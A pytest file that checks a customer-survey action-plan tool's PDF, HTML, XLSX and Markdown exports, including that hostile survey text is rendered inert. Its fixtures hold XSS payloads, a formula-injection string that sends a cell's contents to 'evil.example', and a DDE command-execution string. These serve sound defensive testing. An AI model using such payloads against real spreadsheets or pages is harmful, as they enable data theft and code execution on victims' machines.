"""Exports of the action plan: one-page PDF, inert HTML, formula-free XLSX, Markdown golden file,
close-the-loop message.

Golden files live in tests/golden/; after a deliberate change of the Markdown export, rewrite them
with ``UPDATE_GOLDEN=1 .venv/bin/python -m pytest tests/test_report.py`` and review the diff.
"""

from __future__ import annotations

import base64
import io
import os
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from conftest import SAMPLE
from test_plan import CODEBOOK, root_cause, small_survey

from cx.errors import CxInputError
from cx.plan import build_action_plan, plans_by
from cx.report import (
    FORMULA_START,
    chart_svg,
    close_the_loop,
    export_plan,
    html_fragment,
    loop_html,
    loop_markdown,
    loop_text,
    md_escape,
    plan_filename,
    plan_files,
    plan_html,
    plan_markdown,
    plan_pdf,
    plan_xlsx,
    plans_zip,
    zip_filename,
)

GOLDEN = Path(__file__).resolve().parent / "golden"
UPDATE = os.environ.get("UPDATE_GOLDEN") == "1"

SCRIPT = "<script>alert('x')</script> invoice"
IMG = '<img src=x onerror="alert(1)"> invoice'
DANGEROUS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click me") invoice', "+1+2 invoice", "-2+3 invoice",
             "@SUM(A1:A2) invoice", "\tinvoice after a tab", "\rinvoice after a carriage return",
             "=1+1", "=cmd|' /C calc'!A0 bill"]


@pytest.fixture(scope="module")
def sample_plan():
    from cx.analysis import load_survey

    survey = load_survey(SAMPLE)[1]
    return build_action_plan(survey.frame, survey.roles, source=SAMPLE.name, as_of="2026-10-01")


def pdf_text(data: bytes) -> tuple[int, str]:
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(data))
    text = " ".join(page.extract_text() or "" for page in reader.pages)
    return len(reader.pages), " ".join(text.split())


# --- PDF ------------------------------------------------------------------------------------------


def test_pdf_is_one_page_with_top_driver_and_top_theme(sample_plan):
    data = plan_pdf(sample_plan)
    assert data.startswith(b"%PDF")
    pages, text = pdf_text(data)
    assert pages == 1
    assert sample_plan.top_driver == "Ease of doing business" and sample_plan.top_driver in text
    assert sample_plan.top_theme == "Billing errors" and sample_plan.top_theme in text
    assert "-5 (±2)" in text  # ± prints with the embedded font
    assert b"/FontFile2" in data and b"DejaVu" in data  # a TrueType font is embedded
    assert data.count(b"/Subtype /Image") >= 3  # trend, drivers and themes charts


def long_root_causes(n: int) -> list[dict]:
    text = "Because the approval step before release is skipped whenever the team is under pressure " * 12
    return [root_cause("Billing errors" if k == 0 else f"Theme {k} with a rather long name " * 3, "Overall",
                       fifth=f"{k}: {text}", definition=text, owner="Owner " * 30) | {"diamond": text}
            for k in range(n)]


@pytest.mark.parametrize("n", [1, 12, 80])
def test_pdf_stays_one_page_with_long_lists_and_long_texts(sample_plan, n):
    from dataclasses import replace

    long = build_action_plan(*_sample_survey(), source="a-file-with-a-long-name-" * 8 + ".csv",
                             root_causes=long_root_causes(n),
                             fields={"title": "Action plan for the whole company, all units, all regions " * 3,
                                     "owner": "Chief customer officer " * 6, "next_review": "2027-01-15",
                                     "commitment": "Every invoice right the first time, every delivery on time " * 10},
                             filter_text="Region: " + ", ".join(f"Region {k}" for k in range(60)))
    long = replace(long, warnings=("Read with care: " + "a long warning " * 40,))
    pages, text = pdf_text(plan_pdf(long))
    assert pages == 1
    assert long.top_driver in text and long.top_theme in text
    if n == 80:
        assert re.search(r"…and \d+ more root cause", text)


def test_pdf_prints_unicode_and_states_missing_parts():
    frame = pd.DataFrame({"Recommandation": [10.0, 9, 3, 8, 0], "Unité": ["Café–Süd"] * 5,
                          "Commentaire": ["Très bien", "Prix élevé €", None, "", "Facture fausse"]})
    from cx.roles import Roles

    roles = Roles(loyalty="Recommandation", comments="Commentaire", segments=("Unité",))
    plan = build_action_plan(frame, roles, scope_col="Unité", scope_value="Café–Süd", currency="€",
                             codebook={"Facturation – erreurs": "facture|€"}, as_of="2026-10-01")
    pages, text = pdf_text(plan_pdf(plan))
    assert pages == 1
    assert "Café–Süd" in text and "Facturation – erreurs" in text
    assert "No driver ratings are mapped" in text and "No revenue column is mapped" in text


def _sample_survey():
    from cx.analysis import load_survey

    s = load_survey(SAMPLE)[1]
    return s.frame, s.roles


# --- HTML -----------------------------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def hostile_survey():
    frame, roles = small_survey()
    frame = frame.copy()
    frame["Comment"] = pd.Series([SCRIPT, IMG, *DANGEROUS, "Great", "late"], dtype="str")
    frame["Business unit"] = pd.Series(["<script>unit()</script>"] * 6 + ['B"><img src=y onerror=z()>'] * 6,
                                       dtype="str")
    rename = {"Billing accuracy": "<b onmouseover=x()>Billing</b>"}
    frame = frame.rename(columns=rename)
    roles = roles.replace(drivers=("<b onmouseover=x()>Billing</b>", "On-time delivery"))
    return frame, roles


def hostile_plan(scope: str | None = None):
    frame, roles = hostile_survey()
    book = pd.DataFrame({"theme": ["<i>Billing</i> & <script>t()</script>", "Late delivery", "=Formula theme"],
                         "pattern": ["invoice|bill", "late|tab|carriage", r"\+|@|-"], "parent": ["", "", ""]})
    entries = [root_cause("<i>Billing</i> & <script>t()</script>", "Overall", fifth=SCRIPT) |
               {"examples": [IMG], "diamond": "=HYPERLINK(\"http://x\")"}]
    # A canvas per hostile comment (a canvas keeps three examples), so every one reaches the exports.
    entries += [root_cause(f"Theme {k}", "Overall", fifth=text) | {"examples": [text]}
                for k, text in enumerate(DANGEROUS)]
    return build_action_plan(frame, roles, scope_col="Business unit" if scope else None, scope_value=scope,
                             codebook=book, root_causes=entries, source='"><script>f()</script>.csv',
                             fields={"title": "<script>title()</script>", "owner": "@owner",
                                     "commitment": "<img src=q onerror=w()>"}, as_of="2026-10-01")


def test_html_export_keeps_script_and_img_comments_inert():
    plan = hostile_plan()
    assert any(SCRIPT in t.examples for t in plan.themes) or plan.root_causes[0].fifth_why == SCRIPT
    doc = plan_html(plan).decode("utf-8")
    parser = _Tags()
    parser.feed(doc)
    tags = [t for t, _ in parser.tags]
    assert "script" not in tags and "b" not in tags and "i" not in tags
    for tag, attrs in parser.tags:
        assert not any(a.startswith("on") for a in attrs), (tag, attrs)
        if tag == "img":
            assert set(attrs) == {"class", "alt", "src"}
            assert attrs["src"].startswith("data:image/svg+xml;base64,")
            svg = base64.b64decode(attrs["src"].split(",", 1)[1]).decode("utf-8")
            inner = _Tags()
            inner.feed(svg)
            assert not any(t == "script" or any(a.startswith("on") for a in a_) for t, a_ in inner.tags)
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in doc
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in doc
    assert "&lt;script&gt;title()&lt;/script&gt;" in doc
    assert len(re.findall(r"<img ", doc)) == len(re.findall(r'<img class="chart"', doc))


def test_html_export_for_a_hostile_scope_and_the_fragment():
    plan = hostile_plan("<script>unit()</script>")
    doc = plan_html(plan)
    parser = _Tags()
    parser.feed(doc.decode())
    assert "script" not in [t for t, _ in parser.tags]
    frag = html_fragment(doc)
    assert frag.startswith('<div class="cx-plan"><style>') and frag.endswith("</div>")
    assert "&lt;script&gt;unit()&lt;/script&gt;" in frag
    with pytest.raises(CxInputError):
        html_fragment(b"<html>other</html>")


def test_html_is_self_contained(sample_plan):
    doc = plan_html(sample_plan).decode()
    assert "<style>" in doc and 'src="http' not in doc and "<link" not in doc and "<script" not in doc
    assert doc.count('<img class="chart"') == 3
    assert "-5 (±2)" in doc and "Ease of doing business" in doc and "Billing errors" in doc


# --- XLSX -----------------------------------------------------------------------------------------


def test_xlsx_has_no_live_formula_even_with_hostile_text():
    from openpyxl import load_workbook

    plan = hostile_plan()
    data = plan_xlsx(plan)
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Plan", "NPS", "Trend", "Drivers", "Themes", "Root causes", "Revenue"]
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_START):
                        assert cell.data_type == "s"
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    joined = "\n".join(texts)
    for text in ('=HYPERLINK("http://evil.example/', "+1+2 invoice", "-2+3 invoice", "@SUM(A1:A2) invoice",
                 "=cmd|' /C calc'!A0 bill", "=Formula theme", "@owner", '=HYPERLINK("http://x")'):
        assert text in joined, text
    assert any(t.startswith("\t") for t in texts)
    # A CR is stored as the OOXML escape _x000D_ (Excel reads it back as CR; openpyxl leaves it), as text.
    assert any(t.startswith(("\r", "_x000D_")) and "carriage return" in t for t in texts)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_xlsx_numbers_are_numbers(sample_plan):
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(plan_xlsx(sample_plan)))
    nps = wb["NPS"]
    header = [c.value for c in nps[1]]
    assert nps.cell(2, header.index("nps") + 1).value == pytest.approx(sample_plan.nps.score)
    drivers = wb["Drivers"]
    assert drivers.cell(2, 2).value == sample_plan.top_driver
    themes = wb["Themes"]
    assert themes.cell(2, 1).value == sample_plan.top_theme
    assert themes.cell(2, 2).value == sample_plan.themes[0].count
    plan_sheet = [c.value for row in wb["Plan"].iter_rows() for c in row if c.value is not None]
    assert sample_plan.top_driver in plan_sheet and sample_plan.top_theme in plan_sheet


# --- Markdown -------------------------------------------------------------------------------------


def golden(name: str, data: bytes) -> None:
    path = GOLDEN / name
    if UPDATE or not path.exists():
        if not UPDATE:
            pytest.fail(f"{path} is missing: run with UPDATE_GOLDEN=1 to write it, then review it.")
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
    assert data.decode("utf-8") == path.read_text(encoding="utf-8"), (
        f"{name} differs from the golden file; if the change is deliberate, rerun with UPDATE_GOLDEN=1")


def small_plan():
    frame, roles = small_survey()
    entries = [root_cause("Billing errors", "A"), root_cause("Late delivery", "Overall", fifth="")]
    return build_action_plan(frame, roles, scope_col="Business unit", scope_value="A", codebook=CODEBOOK,
                             root_causes=entries, source="small.csv", as_of="2026-07-01",
                             fields={"owner": "Ana Díaz", "next_review": "2026-09-01",
                                     "commitment": "Right first time."})


def test_markdown_golden_small_plan():
    golden("plan_small.md", plan_markdown(small_plan()))


def test_markdown_golden_close_the_loop():
    golden("loop_small.md", loop_markdown(small_plan(), company="Acme"))


def test_markdown_escapes_text_from_the_data():
    plan = hostile_plan()
    md = plan_markdown(plan).decode()
    assert not re.search(r"(?<!\\)<", md)  # every < from the data is escaped: no HTML tag can form
    assert "\\<script\\>" in md and "\\<img src=q onerror=w()\\>" in md
    # an invisible word joiner inside "://" keeps the address from becoming a bare link in a Markdown viewer
    assert md_escape("![pixel](http://evil/p.png)\n# heading") == "\\!\\[pixel\\](http:\u2060//evil/p.png) \\# heading"


# --- close the loop -------------------------------------------------------------------------------


def test_close_the_loop_names_the_top_driver_and_speaks_to_all_customers(sample_plan):
    text = close_the_loop(sample_plan)
    assert text.startswith("Subject: ")
    assert "ease of doing business" in text  # the top driver, in plain words
    assert "billing errors" in text  # the top problem raised
    assert "praise" not in text.lower()
    assert "all our customers, not only to those who replied" in text
    assert "within three months" in text


def test_close_the_loop_uses_the_plan_and_the_users_words():
    plan = small_plan()
    text = close_the_loop(plan, company="Acme", report_back="2026-12-31", sign_off="Jo, head of CX")
    assert plan.top_driver.lower() in text.lower()
    assert "Acme customer survey" in text and "by 31 December 2026" in text and text.rstrip().endswith("Jo, head of CX")
    assert "Billing errors: we are fixing it where it starts (invoice release: approve or hold)" in text
    assert "aiming for 97% by 31 March 2027" in text
    own = close_the_loop(plan, what_we_do="We now check every invoice twice.\nA new portal ships in May.")
    assert "We now check every invoice twice." in own and "A new portal ships in May." in own
    assert "by 1 September 2026" in own  # the plan's next review
    assert loop_text(plan) == close_the_loop(plan).encode()


def test_loop_html_and_markdown_escape_text():
    plan = hostile_plan()
    doc = loop_html(plan, what_we_do=IMG, company="<b>Acme</b>").decode()
    parser = _Tags()
    parser.feed(doc)
    assert {t for t, _ in parser.tags} <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "ul",
                                           "li", "strong"}
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in doc
    md = loop_markdown(plan, what_we_do=SCRIPT).decode()
    assert "<script>" not in md


# --- files ----------------------------------------------------------------------------------------


def test_export_dispatch_names_and_zip():
    frame, roles = small_survey()
    plans = plans_by(frame, roles, "Business unit", codebook=CODEBOOK, as_of="2026-07-01")
    assert plan_filename(plans["A"], "pdf") == "action-plan-a.pdf"
    assert plan_filename(build_action_plan(frame, roles), "md") == "action-plan.md"
    assert zip_filename("Business unit") == "action-plans-by-business-unit.zip"
    assert export_plan(plans["A"], "md") == plan_markdown(plans["A"])
    with pytest.raises(CxInputError):
        export_plan(plans["A"], "docx")
    twins = {"x": plans["A"], "y": plans["A"]}
    assert list(plan_files(twins, "md")) == ["action-plan-a.md", "action-plan-a-2.md"]
    with zipfile.ZipFile(io.BytesIO(plans_zip(twins, "md"))) as z:
        assert z.namelist() == ["action-plan-a.md", "action-plan-a-2.md"]
    with zipfile.ZipFile(io.BytesIO(plans_zip(plans, "pdf"))) as z:
        for name in z.namelist():
            assert pdf_text(z.read(name))[0] == 1


def test_plan_charts_are_whole_pictures(sample_plan):
    """Exported charts keep their plot size and grow around axes and title (never squeezed or cut)."""
    from cx.charts.plan import drivers_chart, plan_charts, themes_chart, trend_chart

    charts = plan_charts(sample_plan)
    assert set(charts) == {"trend", "drivers", "themes"}
    for chart in charts.values():
        spec = chart.to_dict()
        assert spec["autosize"] == {"type": "pad"} and spec["config"]["font"] == "DejaVu Sans"
        width = int(re.search(r'<svg[^>]* width="(\d+)"', chart_svg(chart)).group(1))
        assert width > spec.get("width", 0) + 60  # axis labels and title are inside the picture
    drivers = charts["drivers"].to_dict()
    assert [r["driver"] for r in drivers["datasets"][next(iter(drivers["datasets"]))]][:1] == ["Ease of doing business"]
    bare = build_action_plan(*small_survey(), codebook={"Pricing": "expensive"})
    assert themes_chart(bare) is None
    from cx.roles import Roles

    frame, _ = small_survey()
    none = build_action_plan(frame, Roles(loyalty="Likelihood to recommend"))
    assert trend_chart(none) is None and drivers_chart(none) is None
